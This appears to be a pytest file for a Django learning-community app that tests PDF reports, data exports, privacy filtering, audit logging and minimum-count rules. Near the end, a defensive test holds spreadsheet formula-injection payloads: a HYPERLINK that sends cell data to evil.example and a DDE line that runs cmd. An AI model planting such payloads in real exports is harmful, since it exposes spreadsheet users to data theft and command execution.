"""Harvest and personal PDFs, and the coaches' exports: content, privacy, min-3."""

from __future__ import annotations

import csv
import datetime
import io
import json
from typing import Any

import pypdf
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from leerkring.agreements.models import AgreementVersion, PersonalGoal
from leerkring.assignments.models import AssignmentReport
from leerkring.communities.models import Sharing
from leerkring.communities.tests.factories import LearningPeriodFactory
from leerkring.core.models import AuditAction, AuditEvent
from leerkring.meetings.tests.factories import MeetingFactory
from leerkring.pulses.actions import open_window, record_pulse
from leerkring.pulses.models import Moment, Pulse
from leerkring.tracks.models import (
    CollectiveTrackVersion,
    LearningQuestionVersion,
    ProgressEntry,
)

pytestmark = pytest.mark.django_db


def _text(response: Any) -> str:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def _harvest(client: Any, demo: Any, user: Any) -> str:
    client.force_login(user)
    url = reverse("reports:harvest-pdf", args=[demo.community.pk, demo.period.pk])
    return _text(client.get(url))


def _private_question(demo: Any) -> str:
    version = LearningQuestionVersion.objects.filter(
        question__personal_track__owner=demo.participant
    ).latest("number")
    return version.text


def _coach_only_yield(demo: Any) -> AssignmentReport:
    report = (
        AssignmentReport.objects.filter(assignment__period=demo.period)
        .exclude(learned="")
        .first()
    )
    assert report is not None
    report.sharing = Sharing.COACHES
    report.learned = "Alleen voor de coaches: mijn geheime oogst."
    report.save()
    return report


def test_the_harvest_pdf_holds_the_collective_track_sessions_arc_and_yields(
    client: Any, demo_community: Any
) -> None:
    text = _harvest(client, demo_community, demo_community.participant)
    assert "Oogst van Samen beter beoordelen" in text
    assert "Collectief resultaatspoor" in text
    assert "Echt uitproberen" in text  # session 4's theme
    assert "Spanningsboog" in text
    assert "Afspraken" in text
    assert "Doelen op drie aspecten" in text
    shared = AssignmentReport.objects.filter(
        assignment__period=demo_community.period,
        sharing=Sharing.COMMUNITY,
        assignment__sharing=Sharing.COMMUNITY,
    ).exclude(learned="")
    assert shared.exists()
    assert " ".join(shared.first().learned.split()[:5]) in text


def test_the_harvest_never_shows_private_content(
    client: Any, demo_community: Any
) -> None:
    """A learning question and a yield shared only with the coaches stay out."""
    _coach_only_yield(demo_community)
    question = _private_question(demo_community)
    for viewer in (demo_community.participants[1], demo_community.coach):
        text = _harvest(client, demo_community, viewer)
        assert "geheime oogst" not in text
        assert " ".join(question.split()[:6]) not in text


def test_the_programme_lead_gets_the_collective_summary_only(
    client: Any, demo_community: Any
) -> None:
    """Counts and the shared ambition; no yields, agreements' text or goals' text."""
    text = _harvest(client, demo_community, demo_community.programme_lead)
    assert "samenvatting voor de programmaleider" in text
    assert "De afspraken zijn bevestigd door" in text
    personal_goals = PersonalGoal.objects.filter(period=demo_community.period)
    assert personal_goals.exists()
    for goal in personal_goals:
        assert " ".join(goal.text.split()[:5]) not in text
    assert "Collectief resultaatspoor" in text
    shared = AssignmentReport.objects.filter(
        assignment__period=demo_community.period, sharing=Sharing.COMMUNITY
    ).exclude(learned="")
    for report in shared:
        assert " ".join(report.learned.split()[:5]) not in text


def test_the_personal_pdf_is_the_owners_own_track(
    client: Any, demo_community: Any
) -> None:
    client.force_login(demo_community.participant)
    url = reverse(
        "reports:personal-pdf",
        args=[demo_community.community.pk, demo_community.period.pk],
    )
    text = _text(client.get(url))
    assert "Sanne de Vries" in text
    assert " ".join(_private_question(demo_community).split()[:6]) in text
    assert "Mijn integratieopdrachten" in text


def test_the_personal_pdf_is_refused_to_everyone_else(
    client: Any, demo_community: Any
) -> None:
    """Coaches, the lead and other communities' people get 'not found'."""
    url = reverse(
        "reports:personal-pdf",
        args=[demo_community.community.pk, demo_community.period.pk],
    )
    question = " ".join(_private_question(demo_community).split()[:6])
    for other in (demo_community.coach, demo_community.programme_lead):
        client.force_login(other)
        assert client.get(url).status_code == 404
    client.force_login(demo_community.participants[1])
    text = _text(client.get(url))
    assert "Sanne de Vries" not in text
    assert question not in text


def _csv(client: Any, demo: Any, dataset: str) -> list[dict[str, str]]:
    url = reverse(
        "reports:export-file",
        args=[demo.community.pk, demo.period.pk, dataset, "csv"],
    )
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_exports_hold_the_collective_data(client: Any, demo_community: Any) -> None:
    client.force_login(demo_community.coach)
    sessions = _csv(client, demo_community, "sessions")
    assert [row["number"] for row in sessions] == [str(n) for n in range(1, 9)]
    assert sessions[3]["professional_theme"] == "Echt uitproberen"
    versions = _csv(client, demo_community, "collective-track")
    assert [row["version"] for row in versions] == ["1", "2", "3"]
    assert _csv(client, demo_community, "progress")
    agreements = _csv(client, demo_community, "agreements")
    assert agreements
    assert int(agreements[-1]["confirmations"]) >= 1
    latest = AgreementVersion.objects.filter(
        agreement__period=demo_community.period
    ).latest("number")
    for confirmation in latest.confirmations.all():
        assert confirmation.user.display_name in agreements[-1]["confirmed_by"]
    url = reverse(
        "reports:export-file",
        args=[
            demo_community.community.pk,
            demo_community.period.pk,
            "sessions",
            "json",
        ],
    )
    data = json.loads(client.get(url).content)
    assert data["dataset"] == "sessions"
    assert len(data["rows"]) == 8


def test_exports_never_hold_private_content(client: Any, demo_community: Any) -> None:
    _coach_only_yield(demo_community)
    client.force_login(demo_community.coach)
    everything = "".join(
        client.get(
            reverse(
                "reports:export-file",
                args=[demo_community.community.pk, demo_community.period.pk, ds, fmt],
            )
        ).content.decode()
        for ds in (
            "sessions",
            "collective-track",
            "progress",
            "agreements",
            "yields",
            "check-ins",
        )
        for fmt in ("csv", "json")
    )
    assert "geheime oogst" not in everything
    assert _private_question(demo_community)[:40] not in everything
    notes = Pulse.objects.exclude(note="").values_list("note", flat=True)
    assert all(note not in everything for note in notes)


def test_every_download_of_community_data_is_audited(
    client: Any, demo_community: Any
) -> None:
    """Who took which dataset of which period (never the content); refusals and
    unknown datasets are not downloads."""
    community, period = demo_community.community, demo_community.period

    def export_url(dataset: str, fmt: str) -> str:
        return reverse(
            "reports:export-file", args=[community.pk, period.pk, dataset, fmt]
        )

    client.force_login(demo_community.participant)
    assert client.get(export_url("collective-track", "csv")).status_code == 404
    client.force_login(demo_community.coach)
    assert client.get(export_url("diaries", "csv")).status_code == 404
    assert client.get(export_url("collective-track", "csv")).status_code == 200
    assert client.get(export_url("collective-track", "json")).status_code == 200
    _harvest(client, demo_community, demo_community.programme_lead)
    events = AuditEvent.objects.filter(
        action=AuditAction.COMMUNITY_DATA_EXPORTED
    ).order_by("id")
    assert [(e.actor, e.target, e.detail) for e in events] == [
        (
            demo_community.coach,
            f"communities.learningperiod:{period.pk}",
            {"dataset": "collective-track", "format": fmt},
        )
        for fmt in ("csv", "json")
    ] + [
        (
            demo_community.programme_lead,
            f"communities.learningperiod:{period.pk}",
            {"dataset": "harvest", "format": "pdf"},
        )
    ]
    assert all(e.ip_address == "127.0.0.1" for e in events)


def test_check_in_figures_need_three_answers(client: Any, demo_community: Any) -> None:
    """A session with two answers shows the count but no mean (export and PDF)."""
    meeting = demo_community.meetings[4]
    open_window(meeting=meeting, moment=Moment.CHECK_IN, actor=demo_community.coach)
    for person in demo_community.participants[:2]:
        record_pulse(
            meeting=meeting,
            moment=Moment.CHECK_IN,
            user=person,
            energy=1,
            safety=1,
            collective_tension=1,
            personal_tension=1,
            word="",
        )
    client.force_login(demo_community.coach)
    rows = {
        (r["session"], r["moment"]): r
        for r in _csv(client, demo_community, "check-ins")
    }
    two = rows[("5", "check_in")]
    assert two["answers"] == "2"
    assert two["energy_mean"] == ""
    assert two["safety_q1"] == ""
    assert rows[("1", "check_in")]["energy_mean"] != ""
    text = _harvest(client, demo_community, demo_community.programme_lead)
    assert "groepscijfer: 1, 2, 3, 4." in text


def test_the_documents_page_offers_what_the_viewer_may_have(
    client: Any, demo_community: Any
) -> None:
    url = reverse("reports:documents", args=[demo_community.community.pk])
    client.force_login(demo_community.participant)
    page = client.get(url).content.decode()
    personal = reverse(
        "reports:personal-pdf",
        args=[demo_community.community.pk, demo_community.period.pk],
    )
    assert personal in page
    assert reverse("reports:export", args=[demo_community.community.pk]) not in page
    client.force_login(demo_community.coach)
    page = client.get(url).content.decode()
    assert reverse("reports:export", args=[demo_community.community.pk]) in page
    assert personal not in page


def _queries(client: Any, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_document_and_export_pages_cost_the_same_with_more_periods(
    client: Any, demo_community: Any
) -> None:
    """A second period with eight sessions adds rows, not queries."""
    community = demo_community.community
    client.force_login(demo_community.coach)
    urls = [
        reverse("reports:documents", args=[community.pk]),
        reverse("reports:export", args=[community.pk]),
    ]
    before = [_queries(client, url) for url in urls]
    assert before[0] <= 7, before
    assert before[1] <= 5, before
    start = demo_community.period.end_date + datetime.timedelta(days=30)
    period = LearningPeriodFactory(community=community, start_date=start)
    for number in range(1, 9):
        MeetingFactory(period=period, number=number)
    assert [_queries(client, url) for url in urls] == before


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_exports_never_hand_a_spreadsheet_a_formula(
    client: Any, demo_community: Any
) -> None:
    """Participants' text that starts like a formula is written with a leading
    apostrophe in agreements, the collective track and progress, so a spreadsheet
    shows it as text instead of running it."""
    demo = demo_community
    agreement = AgreementVersion.objects.filter(agreement__period=demo.period).latest(
        "number"
    )
    agreement.change_note = FORMULAS[0]
    agreement.save()
    track = CollectiveTrackVersion.objects.filter(track__period=demo.period).latest(
        "number"
    )
    track.ambition, track.goal, track.note = FORMULAS[0], FORMULAS[1], FORMULAS[3]
    track.save()
    entries = list(ProgressEntry.objects.filter(track__period=demo.period)[:3])
    for entry, formula in zip(entries, FORMULAS[2:], strict=False):
        entry.text = formula
        entry.save()
    ProgressEntry.objects.filter(pk=entries[0].pk).update(text=FORMULAS[5])
    client.force_login(demo.coach)
    cells = [
        cell
        for dataset in ("agreements", "collective-track", "progress")
        for row in _csv(client, demo, dataset)
        for cell in row.values()
    ]
    assert "'" + FORMULAS[0] in cells
    assert "'" + FORMULAS[1] in cells
    assert "'" + FORMULAS[3] in cells
    assert "'" + FORMULAS[5] in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
    assert not [cell for cell in cells if cell.startswith("\r")]
